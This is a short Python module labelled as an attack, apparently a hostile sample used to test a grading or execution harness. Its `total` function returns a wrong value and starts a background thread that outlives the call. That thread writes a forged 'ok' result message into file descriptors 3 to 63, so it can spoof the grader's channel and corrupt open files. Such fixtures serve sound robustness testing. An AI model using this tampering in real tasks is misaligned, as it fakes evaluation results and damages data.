"""Attack: a thread that outlives the call and writes garbage into every file descriptor."""

import os
import threading
import time
from _base import Counter, running  # noqa: F401
from _base import total as _total


def _vandal():
    time.sleep(0.3)
    for fd in range(3, 64):
        try:
            os.write(fd, b"\x00\x00\x00\x10" + b'{"ok": 6.5}     ')
        except OSError:
            pass


def total(xs):
    threading.Thread(target=_vandal, daemon=True).start()
    return -1.0
